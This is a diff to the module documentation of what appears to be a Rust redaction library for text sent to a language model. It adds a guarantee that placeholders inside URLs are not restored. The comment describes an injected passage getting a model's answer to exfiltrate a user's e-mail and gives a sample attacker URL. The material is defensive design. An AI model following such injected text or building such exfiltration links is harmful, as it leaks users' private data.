@@ -111,7 +111,13 @@
 //!   before a [`redact::RedactedText`] exists; only the redactor builds that type.
 //! - **Restoring gives back exactly what was taken**: `restore(redact(x)) == x` for every
 //!   text, including texts that already contain placeholder-like strings (their numbers are
-//!   reserved, never reused).
+//!   reserved, never reused) — with placeholders inside URLs filled
+//!   ([`redact::Vault::restore_with`]); by default those stay, as the next point says.
+//! - **An answer cannot send a value away.** A placeholder the model put inside a URL — a
+//!   Markdown link or image target, an autolink, a bare URL, an HTML `src`/`href`-like
+//!   attribute — stays a placeholder by default, whole or streamed, and is counted in the
+//!   `restored` audit event ([`redact::UrlValues`]): an injected passage cannot make the
+//!   client fetch `https://attacker.example/?q=<your e-mail>`.
 //! - **No value in errors, logs or reports.** `Debug` of every type that holds text shows
 //!   lengths and counts only; reports hold keyed hashes (HMAC-SHA256) of values, not values.
 //! - **Restricted data stays in the building, whatever the policy.** A prompt that touched
